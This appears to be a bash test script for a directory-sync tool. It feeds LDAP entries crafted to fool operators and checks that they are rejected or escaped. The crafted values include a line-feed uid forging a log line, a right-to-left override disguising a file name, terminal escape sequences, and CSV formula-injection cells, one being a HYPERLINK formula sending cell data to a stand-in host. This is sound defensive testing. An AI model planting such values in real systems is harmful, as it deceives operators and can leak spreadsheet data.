#!/usr/bin/env bash
# t_hostile_text: directory values meant to fool an operator's terminal or
# spreadsheet, and output that cannot be written.
# Proves: an entry whose uid carries a line feed (a forged "disable" line) or
# a U+202E override is rejected with a reason naming the code point, and no
# line of rosterd's log starts with the forged text; an escape sequence and a
# U+202E in cn come out of `user list` (table) and `user show` as \x1b and
# \u202E, never raw, while JSON keeps them exactly (\u escapes that jq
# decodes) and CSV keeps them; CSV cells starting with =, +, -, @ get a
# leading apostrophe (numbers do not); `user list --format csv`, `status`,
# `runs --format json`, `user show --json` and `rosterd --dry-run` writing to
# /dev/full exit 1 with "cannot write the output".
. "$(dirname "$0")/lib.sh"

b64() { printf '%b' "$1" | base64 -w0; }
ESC=$'\x1b'
RLO=$'\xe2\x80\xae'

start_directory "$FIXTURES/people-small.ldif"
{
	printf 'dn:: %s\nobjectClass: inetOrgPerson\nuid:: %s\ncn: Forger\nsn: F\n\n' \
		"$(b64 "uid=mallory\\\\0Adisable  alice,$PEOPLE")" "$(b64 'mallory\ndisable  alice')"
	printf 'dn: uid=rlo,%s\nobjectClass: inetOrgPerson\nuid:: %s\ncn: R\nsn: R\n\n' \
		"$PEOPLE" "$(b64 'rlo\xe2\x80\xaetxt.exe')"
	printf 'dn: uid=trudy,%s\nobjectClass: inetOrgPerson\nuid: trudy\n' "$PEOPLE"
	printf 'cn:: %s\nsn: T\n' "$(b64 '\x1b[2J\x1b[31mTrudy\xe2\x80\xaeevil')"
	printf 'title: =HYPERLINK("http://x.example/?"&A1,"click")\n'
	printf 'departmentNumber: -2+3\nl: @SUM(1)\nmail: +trudy@example.com\n\n'
} | ldap_admin_add
# 2 of the 13 entries are rejected on purpose: sync.max_reject_percent off.
ROSTERD_CONF_SYNC='max_disable = 500; max_disable_percent = 10.0; initial_status = "invited";
  max_reject_percent = 100.0;' write_conf
run_rosterd --once
assert_rc 0 "rosterd --once"

note "usernames with control characters or bidi overrides are rejected"
assert_sql 0 "SELECT count(*) FROM people WHERE username LIKE 'mallory%' OR username LIKE 'rlo%'"
assert_sql 2 "SELECT count(*) FROM run_rejects WHERE reason LIKE '%username (attribute uid) has a control character or a bidirectional override%'"
assert_sql 1 "SELECT count(*) FROM run_rejects WHERE reason LIKE '%(U+000A)'"
assert_sql 1 "SELECT count(*) FROM run_rejects WHERE reason LIKE '%(U+202E)'"
assert_no_match "$ERR" '^disable' "a log line forged by a directory value"
assert_not_contains "$ERR" "$ESC"
assert_not_contains "$ERR" "$RLO"

note "table and plain text escape, JSON and CSV keep the value"
rctl_ok user list
assert_not_contains "$OUT" "$ESC" "user list (table) with a raw escape"
assert_not_contains "$OUT" "$RLO" "user list (table) with a raw U+202E"
assert_contains "$OUT" '\x1b[2J\x1b[31mTrudy\u202Eevil'
rctl_ok user show trudy
assert_not_contains "$OUT" "$ESC" "user show with a raw escape"
assert_match "$OUT" '^display name +\\x1b\[2J\\x1b\[31mTrudy\\u202Eevil$'
rctl_ok user show trudy --json
assert_not_contains "$OUT" "$ESC"
assert_not_contains "$OUT" "$RLO"
assert_json '.display_name' "${ESC}[2J${ESC}[31mTrudy${RLO}evil"
rctl_ok user show trudy --format json
assert_json '.display_name' "${ESC}[2J${ESC}[31mTrudy${RLO}evil"
rctl_ok user list --format json
assert_not_contains "$OUT" "$RLO"
assert_json '.[] | select(.username == "trudy") | .display_name' "${ESC}[2J${ESC}[31mTrudy${RLO}evil"

note "CSV: formulas neutralised"
rctl_ok user list --format csv --columns username,status,display_name,email,department,location,title
line=$(grep '^trudy,' <<<"$OUT")
assert_eq "trudy,invited,${ESC}[2J${ESC}[31mTrudy${RLO}evil,'+trudy@example.com,'-2+3,'@SUM(1),\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"" \
	"$line" "CSV row of trudy"
rctl_ok user list --format csv
assert_match "$(grep '^trudy,' <<<"$OUT")" ",'-2\+3$" "the default CSV's custom field column neutralised too"
rctl_ok runs --format csv
assert_match "$OUT" '^1,[0-9T:Z-]+,ok,[0-9.]+,' "numbers are not prefixed"

note "output that cannot be written is an error"
for cmd in "user list --format csv" "user list" "status" "status --json" "runs --format json" \
	"user show trudy --json" "group list"; do
	# shellcheck disable=SC2086
	run sh -c "exec \"\$0\" -c \"\$1\" $cmd >/dev/full" "$ROSTERCTL" "$CONF"
	assert_rc 1 "rosterctl $cmd >/dev/full"
	assert_contains "$ERR" "rosterctl: cannot write the output: No space left on device"
done
run sh -c 'exec "$0" -c "$1" --dry-run >/dev/full' "$ROSTERD" "$CONF"
assert_rc 1 "rosterd --dry-run >/dev/full"
assert_contains "$ERR" "rosterd: cannot write the output: No space left on device"
run sh -c 'exec "$0" -c "$1" -n >/dev/full' "$ROSTERD" "$CONF"
assert_rc 1 "rosterd -n >/dev/full"
